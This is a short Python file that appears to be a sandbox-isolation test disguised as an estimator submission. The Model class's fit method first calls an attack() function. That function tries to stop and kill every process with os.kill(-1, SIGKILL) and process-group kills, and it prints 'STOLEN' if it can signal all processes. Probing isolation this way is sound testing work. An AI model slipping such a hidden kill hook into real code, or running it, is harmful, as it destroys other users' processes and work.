"""Sends SIGKILL to everybody, where that is only its own processes."""

import os
import signal

from nearest import NearestMean


def attack():
    if os.getpid() < 20 and os.getppid() in (0, 1):
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(-1, number)
            except OSError as error:
                print(repr(error), flush=True)
        try:
            os.killpg(1, signal.SIGKILL)
        except OSError as error:
            print(repr(error), flush=True)
        return
    try:
        os.kill(-1, 0)
        print('STOLEN could signal everybody', flush=True)
    except OSError as error:
        print(repr(error), flush=True)


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
